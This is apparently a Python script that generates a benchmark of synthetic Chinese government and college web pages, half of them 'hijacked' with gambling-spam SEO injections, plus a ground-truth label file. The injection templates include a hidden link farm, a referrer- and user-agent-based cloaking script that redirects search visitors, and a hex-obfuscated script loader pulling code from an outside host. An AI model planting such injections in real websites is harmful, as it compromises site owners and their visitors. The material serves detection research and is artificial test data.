#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""Make bench/data/pending-v27/synthetic-v27: 6 invented sites x 6 pages + 4 single legit pages.

Per site: one template (header, nav, footer, title suffix identical on its pages), 3 hijacked pages
carrying the same injection (placed in the template) and 3 clean pages. Fixed seed: a re-run writes
the same bytes.  Usage: python make_set.py [OUT_DIR]
"""
import html as H
import json
import os
import random
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from articles import GOV_A, EDU_B, GOV_C, GOV_D, EDU_E, GOV_F, LEGIT  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "..", "synthetic-v27")
R = random.Random(27027)

SURN = "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗梁宋郑谢韩唐冯于董萧程曹袁邓许傅沈曾彭吕苏卢蒋蔡贾丁魏薛叶阎余潘杜戴夏钟汪田任姜范方石姚谭廖邹熊金陆郝孔白崔康毛邱秦江史顾侯邵孟龙万段钱汤尹黎易常武乔贺赖龚文"
GIVEN = ["文博", "雅琴", "志强", "晓燕", "建国", "海涛", "丽娟", "俊杰", "春梅", "振华", "思远", "佳怡", "国栋", "秀英", "明轩", "若兰", "子涵", "德胜", "慧敏", "立新"]


def name():
    return R.choice(SURN) + R.choice(GIVEN)


def date(y0=2025, y1=2026):
    y = R.randint(y0, y1)
    m = R.randint(1, 12 if y < 2026 else 11)
    d = R.randint(1, 28)
    return "%04d-%02d-%02d" % (y, m, d), "%02d:%02d" % (R.randint(8, 17), R.randint(0, 59))


def esc(s):
    return H.escape(s, quote=False)


def paras(ps, tag="p", attr=""):
    return "\n".join("<%s%s>%s</%s>" % (tag, attr, esc(p), tag) for p in ps)


# ---------------------------------------------------------------- injections (one per site)
# brands are invented; see README.md
INJ = {}

# A: hidden link farm right after <body>
A_BR = "鹬港汇"
A_SPAM = [A_BR + "娱乐官网", A_BR + "真人百家", A_BR + "体育投注", A_BR + "棋牌下载", A_BR + "电子游艺平台", A_BR + "彩票注册送38元"]
INJ["A"] = ("hidden-link-farm", A_SPAM, '<div style="position:absolute;left:-8812px;top:-640px;width:1px;overflow:hidden">\n'
            + "\n".join('<a href="https://www.yugh%d.vip/" target="_blank">%s</a>' % (i + 3, s) for i, s in enumerate(A_SPAM)) + "\n</div>")

# B: UA/referrer cloak script in <head> rewriting the title and redirecting search visitors
B_BR = "砚舟国际"
B_SPAM = [B_BR + "官方网站", B_BR + "娱乐场注册即送彩金", B_BR + "线上赌场"]
INJ["B"] = ("ua-referrer-cloak-title", B_SPAM, '<script type="text/javascript">\n(function(){var r=document.referrer.toLowerCase(),u=navigator.userAgent.toLowerCase();\n'
            'if(/baidu|sogou|so\\.com|sm\\.cn|bing/.test(r)||/baiduspider|sogou|360spider|yisouspider/.test(u)){\n'
            'document.title="%s-%s-%s";\nsetTimeout(function(){window.location.replace("https://yz" + "zgj.cc/?f=edu")},600);}})();\n</script>' % tuple(B_SPAM))

# C: hex-packed loader + document.write of a hidden spam block, before </body>
C_BR = "霓虹湾"
C_SPAM = [C_BR + "电竞竞猜", C_BR + "老虎机在线玩", C_BR + "六合彩开奖直播", C_BR + "捕鱼游戏下载"]
_hexurl = "".join("\\x%02x" % b for b in b"https://cdn.nhw-static.top/j/q.js")
INJ["C"] = ("hex-packed-js-docwrite", C_SPAM, '<script>var _0x5e1a=["\\x73\\x63\\x72\\x69\\x70\\x74","%s","\\x68\\x65\\x61\\x64"];'
            '(function(d){var s=d.createElement(_0x5e1a[0]);s.src=_0x5e1a[1];d.getElementsByTagName(_0x5e1a[2])[0].appendChild(s)})(document);\n'
            'document.write(\'<div style="height:0;overflow:hidden">\'+\'%s\'+\'</div>\');</script>'
            % (_hexurl, "".join('<a href="https://nhw88.top/">%s</a>' % s for s in C_SPAM)))

# D: spam keyword line above the article, inside the article container
D_BR = "鸮石体育"
D_SPAM = [D_BR + "平台登录", D_BR + "app下载", D_BR + "足球投注网址"]
INJ["D"] = ("spam-keyword-line-above-article", D_SPAM, '<p class="tags-line">%s</p>' % " | ".join(D_SPAM))

# E: sold 友情链接 block in the footer (real-looking links mixed with sold ones)
E_BR = "琉璃坊"
E_SPAM = [E_BR + "娱乐", E_BR + "网投信誉平台", E_BR + "荷官在线开户"]
INJ["E"] = ("sold-friend-links", E_SPAM, None)

# F: brand credit in 来源 and 技术支持 footer line
F_BR = "骁腾博彩"
F_SPAM = [F_BR + "资讯网", F_BR + "官网入口"]
INJ["F"] = ("brand-credit-source-footer", F_SPAM, None)


# ---------------------------------------------------------------- templates
def page_A(a, hij):
    inj = INJ["A"][2] if hij else ""
    return """<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="SiteName" content="桐岚县人民政府">
<meta name="ArticleTitle" content="{t}">
<meta name="PubDate" content="{d} {tm}">
<title>{t}_桐岚县人民政府</title>
<link rel="stylesheet" href="/tlx/css/portal2024.css">
</head>
<body class="tl-portal">
{inj}
<div class="tl-top"><div class="w1200"><span class="tl-date" id="tl-today"></span><a href="/tlx/wza/">无障碍</a><a href="/tlx/zxft/">政务服务</a></div></div>
<header class="tl-banner"><div class="w1200"><img src="/tlx/images/logo.png" alt="桐岚县人民政府"><form class="tl-search" action="/search/"><input name="q" placeholder="请输入关键词"><button>搜索</button></form></div></header>
<nav class="tl-nav"><ul class="w1200"><li><a href="/">首页</a></li><li><a href="/tlx/zwyw/">政务要闻</a></li><li><a href="/tlx/xxgk/">信息公开</a></li><li><a href="/tlx/zmhd/">政民互动</a></li><li><a href="/tlx/zjtl/">走进桐岚</a></li></ul></nav>
<div class="w1200 tl-crumb">当前位置：<a href="/">首页</a> &gt; <a href="/tlx/zwyw/">政务要闻</a> &gt; 部门动态</div>
<div class="w1200 tl-main">
<div class="tl-article">
<h1 class="tl-h1">{t}</h1>
<div class="tl-info"><span>发布时间：{d} {tm}</span><span>来源：{s}</span><span>作者：{au}</span><span>浏览次数：<em id="hits">{hits}</em></span><span class="tl-font">字号：<a>大</a> <a>中</a> <a>小</a></span></div>
<div class="tl-content" id="zoom">
{body}
</div>
<div class="tl-tools"><a href="javascript:window.print()">打印本页</a> <a href="javascript:window.close()">关闭窗口</a></div>
</div>
</div>
<footer class="tl-foot"><div class="w1200"><p>主办：桐岚县人民政府办公室　承办：桐岚县政务服务数据管理局</p><p>地址：桐岚县迎宾大道88号　联系电话：0738-5120345</p><p>网站标识码：4313990002　<a href="https://beian.miit.gov.cn/">湘ICP备05002734号</a></p></div></footer>
</body>
</html>
"""


def page_B(a, hij):
    inj = INJ["B"][2] if hij else ""
    return """<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gbk" />
<title>{t}-江澄大学新闻网</title>
<meta name="keywords" content="江澄大学,新闻网,校园要闻" />
{inj}
<link href="/_css/jcnews.css" rel="stylesheet" type="text/css" />
</head>
<body>
<table class="jc-head" width="1000" align="center" cellpadding="0" cellspacing="0"><tr><td class="jc-logo"><a href="/"><img src="/_img/jcnews_logo.gif" alt="江澄大学新闻网" /></a></td><td class="jc-links"><a href="http://www.jiangcheng.edu.cn/">学校主页</a> | <a href="/tg/">投稿系统</a></td></tr></table>
<table class="jc-menu" width="1000" align="center"><tr><td><a href="/">首页</a></td><td><a href="/xxyw/">学校要闻</a></td><td><a href="/yxdt/">院系动态</a></td><td><a href="/mtjc/">媒体江澄</a></td><td><a href="/xyrw/">校园人物</a></td><td><a href="/sp/">视频新闻</a></td></tr></table>
<table width="1000" align="center" class="jc-body"><tr>
<td class="jc-left" valign="top" width="720">
<div class="jc-pos">您现在的位置：<a href="/">首页</a> &raquo; <a href="/yxdt/">院系动态</a></div>
<div class="jc-title">{t}</div>
<div class="jc-meta">{d} {tm}　供稿：{s}　撰稿：{au}　审核：{au2}　点击：<span id="dnum">{hits}</span></div>
<div class="jc-text">
{body}
</div>
<div class="jc-editor">（责任编辑：{ed}）</div>
</td>
<td class="jc-right" valign="top" width="260"><div class="jc-box"><h3>热点新闻</h3><ul><li><a href="/xxyw/">学校召开党委常委会</a></li><li><a href="/xxyw/">校领导走访慰问离退休老同志</a></li></ul></div></td>
</tr></table>
<div class="jc-foot">江澄大学党委宣传部 版权所有　地址：江澄市学府路1号　邮编：510990<br />新闻热线：020-61280011　Email：news@jiangcheng.edu.cn</div>
</body>
</html>
"""


def page_C(a, hij):
    inj = INJ["C"][2] if hij else ""
    return """<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gb18030">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>{t} - 崧阳市自然资源和规划局</title>
<script src="/res/js/jquery-1.12.4.min.js"></script>
</head>
<body>
<div id="hd"><div class="hd-in"><h2 class="sitename">崧阳市自然资源和规划局</h2><p class="en">Songyang Municipal Bureau of Natural Resources and Planning</p></div></div>
<div id="menu"><a href="/">网站首页</a><a href="/col/col101/">机构概况</a><a href="/col/col102/">工作动态</a><a href="/col/col103/">政策法规</a><a href="/col/col104/">规划公示</a><a href="/col/col105/">办事服务</a></div>
<div id="container">
<div class="loc">您的位置：<a href="/">首页</a> / <a href="/col/col102/">工作动态</a></div>
<div class="xl-box">
<div class="xl-tit"><h3>{t}</h3></div>
<table class="xl-meta" width="100%"><tr><td>日期：{d}</td><td>信息来源：{s}</td><td>编辑：{au}</td><td>访问量：<span>{hits}</span></td></tr></table>
<div class="xl-nr" id="art_content">
{body}
</div>
<div class="xl-fj">附件：无</div>
</div>
</div>
<div id="ft"><p>崧阳市自然资源和规划局　版权所有</p><p>地址：崧阳市府前街26号　电话：0379-65017710</p><p>网站标识码：4103000041　豫公网安备 41030002000318号</p></div>
{inj}
</body>
</html>
"""


def page_D(a, hij):
    inj = INJ["D"][2] if hij else ""
    return """<!doctype html>
<html>
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>{t}|枫林镇人民政府网</title>
<link rel="stylesheet" href="/static/fl/main.css?v=3.1">
</head>
<body>
<section class="fl-header"><div class="fl-wrap"><a class="fl-logo" href="/">枫林镇人民政府</a><span class="fl-slogan">山水枫林　宜居宜业</span></div></section>
<section class="fl-navbar"><div class="fl-wrap"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/xzdt/">乡镇动态</a><a href="/bmfw/">便民服务</a><a href="/fljs/">枫林简介</a></div></section>
<section class="fl-wrap fl-page">
<article class="fl-art">
<header><h1>{t}</h1>
<ul class="fl-byline"><li>{s}</li><li>{au}</li><li><time datetime="{d}">{d}</time></li></ul></header>
<div class="fl-artbody">
{inj}
{body}
</div>
<div class="fl-share">分享到：<a class="wx">微信</a><a class="wb">微博</a></div>
</article>
<aside class="fl-side"><h4>最新动态</h4><ul><li><a href="/xzdt/">镇党委召开理论学习中心组学习会</a></li><li><a href="/xzdt/">枫林镇开展森林防火宣传</a></li></ul></aside>
</section>
<footer class="fl-footer"><div class="fl-wrap">枫林镇人民政府 主办　联系电话：0797-8631022<br>赣ICP备10004471号-2</div></footer>
</body>
</html>
"""


E_LINKS_OK = [("教育部", "http://www.moe.gov.cn/"), ("省教育厅", "http://jyt.example-prov.gov.cn/"), ("全国职业院校技能大赛", "http://www.chinaskills-jsw.org/"), ("中国高职高专教育网", "http://www.tech.net.cn/")]


def page_E(a, hij):
    links = list(E_LINKS_OK)
    if hij:
        links[2:2] = [(s, "https://www.llf%d.net/" % (i + 5)) for i, s in enumerate(E_SPAM)]
    fl = "\n".join('<li><a href="%s" target="_blank">%s</a></li>' % (u, esc(n)) for n, u in links)
    return """<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<title>{t}-临湄职业技术学院</title>
<link rel="stylesheet" href="/skin/lm/css/style.css">
</head>
<body>
<div class="lm-top"><div class="lm-container"><img src="/skin/lm/images/logo.png" alt="临湄职业技术学院"><div class="lm-quick"><a href="/xxgk/">信息公开</a><a href="/zsw/">招生网</a><a href="/jyw/">就业网</a></div></div></div>
<div class="lm-menu"><div class="lm-container"><a href="/">学院首页</a><a href="/xygk/">学院概况</a><a href="/xwzx/">新闻中心</a><a href="/jxgl/">教学管理</a><a href="/xsgz/">学生工作</a><a href="/hzjl/">合作交流</a></div></div>
<div class="lm-container lm-show">
<div class="lm-bread">首页 &gt; 新闻中心 &gt; 学院新闻</div>
<div class="lm-title">{t}</div>
<div class="lm-attr">作者：{au}&nbsp;&nbsp;&nbsp;来源：{s}&nbsp;&nbsp;&nbsp;发布时间：{d}&nbsp;&nbsp;&nbsp;点击数：<script>document.write("{hits}")</script></div>
<div class="lm-body">
{body}
</div>
<div class="lm-pn"><p>上一篇：<a href="/xwzx/">学院召开安全工作会议</a></p><p>下一篇：<a href="/xwzx/">学院举行教职工篮球赛</a></p></div>
</div>
<div class="lm-friend"><div class="lm-container"><h4>友情链接</h4><ul>
""" + fl + """
</ul></div></div>
<div class="lm-copy">Copyright &copy; 临湄职业技术学院　地址：临湄市职教园区学苑路9号　鲁ICP备12008845号</div>
</body>
</html>
"""


def page_F(a, hij):
    tech = F_SPAM[1] if hij else "沅北区大数据中心"
    return """<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=gbk">
<title>{t}--沅北区卫生健康局</title>
</head>
<body topmargin="0" leftmargin="0">
<div class="yb-head"><img src="/yb/img/banner.jpg" width="1002" height="140" alt="沅北区卫生健康局"></div>
<div class="yb-nav"><a href="/">首 页</a> <a href="/jgzn/">机构职能</a> <a href="/gzdt/">工作动态</a> <a href="/zcfg/">政策法规</a> <a href="/gggs/">公告公示</a> <a href="/jkjy/">健康教育</a></div>
<div class="yb-main">
<table class="yb-xxgk" border="1" cellspacing="0" cellpadding="4" width="960">
<tr><th>索 引 号</th><td>{idx}</td><th>发布机构</th><td>沅北区卫生健康局</td></tr>
<tr><th>信息来源</th><td>{s}</td><th>发布日期</th><td>{d}</td></tr>
<tr><th>名　　称</th><td colspan="3">{t}</td></tr>
</table>
<div class="yb-art">
<h2 class="yb-h2">{t}</h2>
<div class="yb-sub">{d}　　{au}</div>
<div class="yb-txt">
{body}
</div>
</div>
</div>
<div class="yb-foot">沅北区卫生健康局 主办　技术支持：{tech}<br>地址：沅北区人民中路15号　湘ICP备09012237号</div>
</body>
</html>
""".replace("{tech}", tech)


LEGIT_TPL = [
    ("www.xiangzhouticai.gov.cn", "utf-8", "湘洲省体育彩票管理中心"),
    ("gaj.nanxun-shi.gov.cn", "utf-8", "南浔市公安局"),
    ("mzj.nanxun-shi.gov.cn", "gbk", "南浔市民政局"),
    ("czt.xiangzhou.gov.cn", "gb18030", "湘洲省财政厅"),
]


def page_L(a, hij, org, enc):
    return ("""<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=%s">
<title>{t}_%s</title>
</head>
<body>
<div class="top">%s</div>
<div class="nav"><a href="/">首页</a> <a href="/xwdt/">新闻动态</a> <a href="/tzgg/">通知公告</a> <a href="/zwgk/">政务公开</a></div>
<div class="detail">
<h1>{t}</h1>
<p class="info">发布日期：{d}　来源：{s}　作者：{au}</p>
<div class="txt">
{body}
</div>
</div>
<div class="foot">%s 版权所有</div>
</body>
</html>
""" % (enc, org, org, org))


SITES = [
    # key, host, url pattern, encoding, articles, template fn, sources, kind
    ("A", "www.tonglan.gov.cn", "https://www.tonglan.gov.cn/tlx/zwyw/bmdt/{ym}/t{ymd}_{n}.html", "utf-8", GOV_A, page_A,
     ["县农业农村局", "县住房和城乡建设局", "县医疗保障局", "县应急管理局", "县人力资源和社会保障局", "县市场监督管理局"]),
    ("B", "news.jiangcheng.edu.cn", "http://news.jiangcheng.edu.cn/info/1003/{n}.htm", "gbk", EDU_B, page_B,
     ["就业指导中心", "化学与材料学院", "教务处", "图书馆", "数学学院", "实验室与设备管理处"]),
    ("C", "zrghj.songyang-shi.gov.cn", "http://zrghj.songyang-shi.gov.cn/art/{y}/{m}/{dd}/art_102_{n}.html", "gb18030", GOV_C, page_C,
     ["耕地保护监督科", "国土空间规划科", "地质勘查管理科", "市不动产登记中心", "土地利用管理科", "测绘地理信息科"]),
    ("D", "www.fenglinzhen.gov.cn", "https://www.fenglinzhen.gov.cn/xzdt/{n}.html", "utf-8", GOV_D, page_D,
     ["镇农业综合服务中心", "镇村镇建设办", "镇卫生院", "镇文化站", "镇综治中心", "镇农业综合服务中心"]),
    ("E", "www.linmeivtc.edu.cn", "https://www.linmeivtc.edu.cn/xwzx/xyxw/{n}.html", "utf-8", EDU_E, page_E,
     ["党委宣传部", "智能制造学院", "电子信息学院", "招生就业处", "质量管理办公室", "招生就业处"]),
    ("F", "wjj.yuanbei.gov.cn", "http://wjj.yuanbei.gov.cn/gzdt/{ym}/t{ymd}_{n}.html", "gbk", GOV_F, page_F,
     ["区卫生健康局办公室", "区疾病预防控制中心", "区卫生健康局", "区卫生健康局科教科", "区健康教育所", "区妇幼保健院"]),
]


def main():
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    i = 0
    for key, host, upat, enc, arts, fn, srcs in SITES:
        order = [True, False, True, False, True, False]
        R.shuffle(order)
        for j, (title, ps) in enumerate(arts):
            i += 1
            pid = "sy27-%03d" % i
            hij = order[j]
            d, tm = date(2026, 2026) if ("2026" in title or "2025年度" in title) else date()
            au = name()
            n = R.randint(10000, 99999)
            y, m, dd = d.split("-")
            url = upat.format(ym=y + m, ymd=y + m + dd, y=y, m=m, dd=dd, n=n)
            src = srcs[j]
            shown_src = src
            spam = []
            injections = []
            if hij:
                form, spam, _ = INJ[key]
                injections = [form]
                spam = list(spam)
                if key == "F":
                    shown_src = F_SPAM[0]
            body = paras(ps)
            tpl = fn(None, hij)
            page = tpl.format(t=esc(title), d=d, tm=tm, s=esc(shown_src), au=au, au2=name(), ed=name(), hits=R.randint(80, 3000),
                              body=body, inj="{inj}", idx="11430902MB1%06d/%s-%05d" % (R.randint(0, 999999), y, R.randint(1, 9999)))
            if hij and INJ[key][2]:
                page = page.replace("{inj}", INJ[key][2])
            else:
                page = page.replace("{inj}\n", "").replace("{inj}", "")
            data = page.encode(enc)
            with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
                f.write(data)
            rows.append(dict(id=pid, url=url, title=title, date=d, source=(None if (hij and key == "F") else src), author=au,
                             text="\n".join(ps), hijacked=hij, injections=injections, spam_strings=spam, legit=False, lang="zh",
                             origin="synthetic-generator-v27", kind="synthetic", site=host, capture="html", encoding=enc,
                             template="site-" + key))
    for k, ((host, enc, org), (title, src, ps)) in enumerate(zip(LEGIT_TPL, LEGIT)):
        i += 1
        pid = "sy27-%03d" % i
        d, tm = date(2026, 2026) if ("2026" in title or "2025年度" in title) else date()
        au = name()
        url = "http://%s/xwdt/%s/%d.html" % (host, d[:7].replace("-", ""), R.randint(1000, 9999))
        page = page_L(None, False, org, enc).format(t=esc(title), d=d, s=esc(src), au=au, body=paras(ps))
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(page.encode(enc))
        rows.append(dict(id=pid, url=url, title=title, date=d, source=src, author=au, text="\n".join(ps), hijacked=False,
                         injections=[], spam_strings=[], legit=True, lang="zh", origin="synthetic-generator-v27", kind="synthetic",
                         site=host, capture="html", encoding=enc, template="single-legit"))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")
    print("wrote", len(rows), "pages to", OUT)


if __name__ == "__main__":
    main()
